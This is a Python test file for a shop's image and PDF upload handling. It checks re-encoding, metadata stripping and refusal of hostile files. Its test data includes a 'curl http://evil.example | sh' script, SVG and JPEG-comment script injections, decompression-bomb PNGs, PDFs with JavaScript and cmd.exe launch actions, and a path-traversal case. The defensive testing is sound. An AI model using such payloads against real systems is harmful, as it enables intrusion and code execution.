"""Uploads are judged by decoding them, never by their name; refused ones store nothing."""

from __future__ import annotations

import io
import os
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image

from storefront import media
from tests.producers.helpers import jpeg_bytes


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims width × height pixels: a decompression bomb."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def raw_pdf(catalog_extra: bytes = b"") -> bytes:
    """A one-page PDF written by hand, with `catalog_extra` in its catalogue dictionary."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def stored_files(root: Path) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def test_a_real_photo_is_re_encoded_under_a_server_chosen_name(tmp_path):
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"  # Make
    gps = exif.get_ifd(0x8825)  # GPSInfo: where the photo was taken
    gps[1], gps[2] = "N", (21.0, 23.0, 0.0)
    buffer = io.BytesIO()
    Image.new("RGB", (3000, 2000), "orange").save(buffer, "JPEG", exif=exif)
    assert Image.open(io.BytesIO(buffer.getvalue())).getexif().get_ifd(0x8825)
    stored = media.store_photo(tmp_path, buffer.getvalue())
    assert stored.path.startswith("products/") and stored.path.endswith(".jpg")
    assert (stored.width, stored.height) == (1200, 800)  # the gallery's size
    saved = Image.open(tmp_path / stored.path)
    assert saved.format == "JPEG" and saved.size == (1200, 800)
    assert not saved.getexif()  # camera and GPS data gone
    thumbnail = Image.open(tmp_path / media.thumbnail_path(stored.path))
    assert max(thumbnail.size) == media.THUMB_MAX_SIDE
    # the name comes from the content: the same photo again is the same file
    assert media.store_photo(tmp_path, buffer.getvalue()).path == stored.path
    assert len(stored_files(tmp_path)) == 3  # the photo, its thumbnail, its 1200×630 share


def test_png_and_webp_with_transparency_become_jpeg_on_white(tmp_path):
    for kind in ("PNG", "WEBP"):
        buffer = io.BytesIO()
        Image.new("RGBA", (400, 300), (0, 0, 0, 0)).save(buffer, kind)
        stored = media.store_photo(tmp_path, buffer.getvalue())
        saved = Image.open(tmp_path / stored.path).convert("RGB")
        assert saved.getpixel((10, 10)) == (255, 255, 255)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"#!/bin/sh\ncurl http://evil.example | sh\n", "không phải ảnh"),  # a script named .jpg
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "không phải ảnh"),
        (b"GIF89a" + b"\0" * 100, "không phải ảnh"),  # a format the shop does not take
        (png_declaring(30000, 30000), "triệu điểm ảnh"),  # 900 megapixels: a bomb
        (png_declaring(6000, 6000), "triệu điểm ảnh"),  # 36 MP: over the shop's 25 MP
        (jpeg_bytes()[:2000], "hỏng"),  # cut short
        (jpeg_bytes((120, 90)), "quá nhỏ"),
    ],
)
def test_refused_images_store_nothing(tmp_path, data, message):
    with pytest.raises(media.UploadRefused, match=message):
        media.store_photo(tmp_path, data)
    assert stored_files(tmp_path) == []


def test_uploads_over_5_mb_are_refused_before_decoding():
    noise = io.BytesIO()
    Image.frombytes("RGB", (1800, 1400), os.urandom(1800 * 1400 * 3)).save(noise, "PNG")
    assert len(noise.getvalue()) > media.MAX_UPLOAD_BYTES
    with pytest.raises(media.UploadRefused, match="5 MB"):
        media.read_upload(io.BytesIO(noise.getvalue()))
    assert media.read_upload(io.BytesIO(jpeg_bytes())) == jpeg_bytes()
    with pytest.raises(media.UploadRefused):
        media.read_upload(io.BytesIO(b""))


def test_a_clean_pdf_scan_is_kept_as_sent(tmp_path):
    data = raw_pdf()
    path = media.store_document(tmp_path, data)
    assert path.startswith("certificates/") and path.endswith(".pdf")
    assert (tmp_path / path).read_bytes() == data
    scanned = io.BytesIO()
    Image.new("RGB", (1240, 1754), "white").save(scanned, "PDF")  # how scanners save
    assert media.store_document(tmp_path, scanned.getvalue()).endswith(".pdf")


@pytest.mark.parametrize(
    "extra",
    [
        b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",  # name escapes
        b"/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (1) >>] >> >>",
        b"/OpenAction << /S /Launch /F (cmd.exe) >>",
        b"/Names << /EmbeddedFiles << /Names [] >> >>",
        b"/AcroForm << /Fields [] /XFA [] >>",
    ],
)
def test_pdfs_with_scripts_actions_or_attachments_are_refused(tmp_path, extra):
    with pytest.raises(media.UploadRefused, match="mã lệnh"):
        media.store_document(tmp_path, raw_pdf(extra))
    assert stored_files(tmp_path) == []


def test_broken_or_fake_pdfs_are_refused(tmp_path):
    with pytest.raises(media.UploadRefused, match="PDF"):
        media.store_document(tmp_path, b"%PDF-1.4\nnot really a pdf")
    with pytest.raises(media.UploadRefused, match="không phải ảnh"):
        media.store_document(tmp_path, b"MZ\x90\x00 an executable")
    assert stored_files(tmp_path) == []


def test_image_scans_are_re_encoded(tmp_path):
    path = media.store_document(tmp_path, jpeg_bytes((2400, 3400)))
    assert path.endswith(".jpg")
    assert max(Image.open(tmp_path / path).size) == media.SCAN_MAX_SIDE


def test_remove_stored_stays_inside_media_root(tmp_path):
    stored = media.store_photo(tmp_path / "media", jpeg_bytes())
    outside = tmp_path / "secret.txt"
    outside.write_text("keep")
    media.remove_stored(tmp_path / "media", "../secret.txt")
    assert outside.exists()
    media.remove_stored(tmp_path / "media", stored.path)
    assert stored_files(tmp_path / "media") == []


def _with_segments(jpeg: bytes, *segments: tuple[int, bytes]) -> bytes:
    """The JPEG with extra marker segments (marker byte, payload) right after SOI."""
    extra = b"".join(
        bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
        for marker, payload in segments
    )
    return jpeg[:2] + extra + jpeg[2:]


def _segment_markers(jpeg: bytes) -> list[int]:
    """The markers of a JPEG's header segments, up to the start of the image data."""
    markers, at = [], 2
    while at < len(jpeg) and jpeg[at] == 0xFF:
        marker = jpeg[at + 1]
        markers.append(marker)
        if marker == 0xDA:  # start of scan: entropy-coded image data follows
            break
        at += 2 + struct.unpack(">H", jpeg[at + 2 : at + 4])[0]
    return markers


def test_comment_and_application_segments_never_reach_the_stored_files(tmp_path):
    script = b"<script>alert(1)</script>"
    upload = _with_segments(
        jpeg_bytes((900, 700)),
        (0xFE, b"COM " + script),  # a comment
        (0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + script),  # XMP in APP1
        (0xE2, b"ICC_PROFILE\x00" + script),  # APP2
        (0xEC, b"Ducky" + script),  # APP12
        (0xED, b"Photoshop 3.0\x00" + script),  # APP13 (IPTC)
    )
    assert Image.open(io.BytesIO(upload)).info.get("comment")  # the upload carries them
    stored = media.store_photo(tmp_path, upload)
    for relative in (stored.path, media.thumbnail_path(stored.path)):
        data = (tmp_path / relative).read_bytes()
        assert b"<script>" not in data and b"script" not in data
        markers = _segment_markers(data)
        assert 0xFE not in markers  # no comment
        assert [m for m in markers if 0xE0 <= m <= 0xEF] == [0xE0]  # only JFIF's APP0
